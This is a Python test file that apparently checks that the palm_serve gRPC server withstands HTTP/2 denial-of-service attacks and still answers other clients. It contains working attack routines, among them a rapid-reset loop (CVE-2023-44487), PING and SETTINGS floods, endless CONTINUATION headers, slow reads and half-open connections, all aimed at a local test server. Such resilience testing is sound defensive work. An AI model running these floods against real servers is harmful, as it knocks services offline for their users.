"""Attacks with HTTP/2 frames. The server stays up, keeps no memory, and answers other clients meanwhile."""

import os
import re
import socket
import struct
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack, suppress
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.events import Event, ResponseReceived, TrailersReceived
from h2.exceptions import ProtocolError
from h2.settings import SettingCodes, Settings

from palm_serve.client import Client
from palm_serve.v1 import palm_pb2 as pb

Process = Any  # of conftest.py, which cannot be imported by name
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ATTACK_S = 2.0
DEADLINE_S = 20.0
HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 1, 3, 4, 6, 9
KEPT_MIB = 96
RESOURCE_EXHAUSTED = "8"

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(not Path("/proc/self/fd").exists(), reason="what the server holds is read from /proc"),
]


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def grpc_message(message: Any) -> bytes:
    data = message.SerializeToString()
    return b"\x00" + struct.pack(">I", len(data)) + data


@dataclass(frozen=True)
class Address:
    """Address of the server, and the one that the attack comes from.

    It is not that of the neighbour, whose requests would be those of the same client. Each attack has its own, because the
    server blocks some.
    """

    host: str
    port: int
    source: str

    def connect(self) -> socket.socket:
        return socket.create_connection((self.host, self.port), timeout=5, source_address=(self.source, 0))


class Peer:
    """One connection. It reads the server's frames and answers only those that the protocol requires."""

    def __init__(self, address: Address, window: int | None = None) -> None:
        self.socket = address.connect()
        config = H2Configuration(client_side=True, validate_outbound_headers=False, header_encoding=None)
        self.http = H2Connection(config)
        if window is not None:
            self.http.local_settings = Settings(initial_values={SettingCodes.INITIAL_WINDOW_SIZE: window})
        self.http.initiate_connection()
        self.events: list[Event] = []

    def __enter__(self) -> "Peer":
        return self

    def __exit__(self, *error: object) -> None:
        self.socket.close()

    def flush(self) -> None:
        self.socket.sendall(self.http.data_to_send())

    def listen(self, seconds: float = 0.0) -> None:
        self.socket.settimeout(max(seconds, 0.001))
        with suppress(TimeoutError):
            data = self.socket.recv(1 << 16)
            if not data:
                raise ConnectionError("the server has closed the connection")
            self.events += self.http.receive_data(data)
        self.socket.settimeout(5)
        self.flush()

    def headers(self, *more: tuple[str, str], method: str = "Parse") -> list[tuple[str, str]]:
        path = f"/palm_serve.v1.DialogueUnderstanding/{method}"
        common = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "here")]
        return [*common, ("content-type", "application/grpc"), ("te", "trailers"), *more]

    def ask(self, message: Any, *more: tuple[str, str], method: str = "Parse") -> int:
        stream = self.http.get_next_available_stream_id()
        self.http.send_headers(stream, self.headers(*more, method=method))
        self.http.send_data(stream, grpc_message(message), end_stream=True)
        return stream

    def send(self, message: Any, method: str) -> None:
        """Send a large message, as the server gives room for it, until the call ends."""
        stream = self.http.get_next_available_stream_id()
        self.http.send_headers(stream, self.headers(method=method))
        data = grpc_message(message)
        ended = len(self.statuses())
        while data and len(self.statuses()) == ended:
            room = min(self.http.local_flow_control_window(stream), self.http.max_outbound_frame_size)
            if room > 0:
                self.http.send_data(stream, data[:room], end_stream=room >= len(data))
                data = data[room:]
                self.flush()
            else:
                self.listen(1)

    def responses(self) -> int:
        """Return the number of calls whose answer has begun."""
        return sum(isinstance(event, ResponseReceived) for event in self.events)

    def statuses(self) -> list[str]:
        """Return the status of each call that has ended."""
        statuses = []
        for event in self.events:
            if isinstance(event, ResponseReceived | TrailersReceived):
                statuses += [value.decode() for name, value in event.headers if name == b"grpc-status"]
        return statuses


REQUEST = pb.ParseRequest(text="please show me flights from boston to new york on monday")
BATCH = pb.ParseBatchRequest(requests=[REQUEST] * 256)


def rapid_reset(address: Address, stop: threading.Event) -> None:
    """Open and reset streams in a loop (CVE-2023-44487)."""
    with Peer(address) as peer:
        while not stop.is_set():
            for _ in range(50):
                # What one connection can do.
                if peer.http.outbound_flow_control_window < 200:
                    break
                peer.http.reset_stream(peer.ask(REQUEST))
            peer.flush()
            peer.listen()


def reset_and_reconnect(address: Address, stop: threading.Event) -> None:
    """Open a connection, open and reset streams, and leave. `again_and_again` repeats it."""
    with Peer(address) as peer:
        for _ in range(100):
            peer.http.reset_stream(peer.ask(REQUEST))
        peer.flush()


def ping_flood(address: Address, stop: threading.Event) -> None:
    with Peer(address) as peer:
        while not stop.is_set():
            peer.socket.sendall(frame(PING, 0, 0, b"12345678") * 500)
            peer.listen()


def settings_flood(address: Address, stop: threading.Event) -> None:
    with Peer(address) as peer:
        while not stop.is_set():
            peer.socket.sendall(frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)) * 500)
            peer.listen()


def huge_headers(address: Address, stop: threading.Event) -> None:
    """Send headers of 16 KiB to 4 MiB in several frames."""
    size = 1 << 14
    while not stop.is_set():
        with Peer(address) as peer, suppress(OSError, ProtocolError):
            peer.listen(0.2)
            peer.ask(REQUEST, *((f"x-{i}", "v" * 1024) for i in range(size // 1024)))
            peer.flush()
            peer.listen(0.2)
        size = size * 4 if size < 1 << 22 else 1 << 14


def endless_headers(address: Address, stop: threading.Event) -> None:
    """Send CONTINUATION frames without end."""
    with Peer(address) as peer:
        peer.socket.sendall(frame(HEADERS, 0, 1, peer.http.encoder.encode(peer.headers())))
        field = peer.http.encoder.encode([("x-more", "v" * 4000)])
        while not stop.is_set():
            peer.socket.sendall(frame(CONTINUATION, 0, 1, field) * 20)
            peer.listen()


def slow_read(address: Address, stop: threading.Event) -> None:
    """Request large responses and never read them."""
    with Peer(address, window=0) as peer:
        peer.listen(0.2)
        for _ in range(40):
            # What may be sent is bounded too.
            with suppress(ProtocolError):
                peer.ask(BATCH, method="ParseBatch")
            peer.flush()
            peer.listen(0.05)
        while not stop.is_set():
            peer.listen(0.1)


def leave_batches(address: Address, stop: threading.Event) -> None:
    """Ask for large batches and leave, again and again."""
    with Peer(address) as peer:
        peer.listen(0.2)
        for _ in range(30):
            with suppress(ProtocolError):
                peer.ask(BATCH, method="ParseBatch")
            peer.flush()
            peer.listen(0.01)


def unfinished(address: Address, stop: threading.Event) -> None:
    """Open connections that stop within the preface, a frame or a message."""
    starts = (b"", PREFACE[:9], PREFACE, PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 4, 1, b"\x00" * 99)[:40])
    with ExitStack() as held:
        for number in range(200):
            connection = held.enter_context(address.connect())
            connection.sendall(starts[number % len(starts)])
        stop.wait()


def garbage(address: Address, stop: threading.Event) -> None:
    for number in range(100_000):
        if stop.is_set():
            return
        with address.connect() as connection, suppress(OSError):
            connection.sendall((PREFACE if number % 2 else b"GET / HTTP/1.1\r\n\r\n") + os.urandom(500))
            connection.settimeout(0.05)
            connection.recv(100)


def reset_unknown_streams(address: Address, stop: threading.Event) -> None:
    with Peer(address) as peer:
        while not stop.is_set():
            peer.socket.sendall(b"".join(frame(RST_STREAM, 0, i, struct.pack(">I", 8)) for i in range(1, 999, 2)))
            peer.listen()


ATTACKS = (
    *(
        rapid_reset,
        reset_and_reconnect,
        ping_flood,
        settings_flood,
        huge_headers,
        endless_headers,
        slow_read,
        leave_batches,
    ),
    *(unfinished, garbage, reset_unknown_streams),
)


def again_and_again(attack: Callable[[Address, threading.Event], None], address: Address, stop: threading.Event) -> int:
    """Reconnect whenever the server closes the connection, and return the number of connections."""
    times = 0
    while not stop.is_set():
        times += 1
        with suppress(OSError, ProtocolError):
            attack(address, stop)
    return times


@pytest.fixture(scope="module")
def server(start_shared_server: Callable[..., Process], tiny_bundle: Path) -> Iterator[Process]:
    process = start_shared_server(tiny_bundle, "--drain-grace", "0", "--log-level", "error")
    process.target()
    yield process
    process.process.terminate()
    assert process.finish() == 0, process.errors
    assert process.errors == []


def held(server: Process) -> tuple[float, int]:
    """Return the memory in MiB and the number of open descriptors."""
    folder = Path("/proc") / str(server.process.pid)
    memory = re.search(r"VmRSS:\s+(\d+)", (folder / "status").read_text())
    assert memory is not None
    return int(memory[1]) / 1024, len(os.listdir(folder / "fd"))


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.__name__)
def test_other_clients_are_answered(server: Process, attack: Callable[[Address, threading.Event], None]) -> None:
    host, _, port = server.target().rpartition(":")
    stop, came, took = threading.Event(), [0], []
    with Client(server.target(), timeout_s=DEADLINE_S, retries=0) as neighbour:
        neighbour.parse(REQUEST.text)
        memory, descriptors = held(server)

        def harm() -> None:
            source = f"127.0.1.{1 + ATTACKS.index(attack)}"
            came[0] = again_and_again(attack, Address(host, int(port), source), stop)

        thread = threading.Thread(target=harm)
        thread.start()
        try:
            end = time.monotonic() + ATTACK_S
            while time.monotonic() < end:
                began = time.monotonic()
                assert neighbour.parse(REQUEST.text).intent.name == "flight"
                took.append(time.monotonic() - began)
                time.sleep(0.005)
        finally:
            stop.set()
            thread.join(30)
        assert server.process.poll() is None, server.errors
        assert came[0] > 0
        until = time.monotonic() + 15
        while held(server)[1] > descriptors + 2 and time.monotonic() < until:
            time.sleep(0.1)
        after = held(server)
    print(
        f"{attack.__name__}: {len(took)} calls of others, the slowest {1000 * max(took):.0f} ms; came {came[0]} times; {after}"
    )
    assert after[1] <= descriptors + 2, "connections are still held"
    assert after[0] <= memory + KEPT_MIB, f"{memory:.0f} MiB before, {after[0]:.0f} after"


def test_answers_that_nobody_reads_are_bounded(server: Process) -> None:
    """A peer without a window takes no answer. It is refused before the memory is full of answers."""
    host, _, port = server.target().rpartition(":")
    memory, _ = held(server)
    # An answer repeats its text.
    batch = pb.ParseBatchRequest(requests=[pb.ParseRequest(text=REQUEST.text + 9000 * " ")] * 220)
    with Peer(Address(host, int(port), "127.0.1.99"), window=0) as peer:
        sent = 0
        while not peer.statuses() and sent < 60:
            peer.send(batch, "ParseBatch")
            sent += 1
            end = time.monotonic() + DEADLINE_S
            while peer.responses() < sent:  # headers need no window
                peer.listen(0.1)
                assert time.monotonic() < end
        assert peer.statuses() == [RESOURCE_EXHAUSTED]
        assert held(server)[0] <= memory + 2 * KEPT_MIB
        with Client(server.target(), timeout_s=DEADLINE_S, retries=0) as neighbour:
            assert neighbour.parse(REQUEST.text).intent.name == "flight"
    assert 16 <= sent <= 20, "answers of 2 MB, until there are 32 MiB"
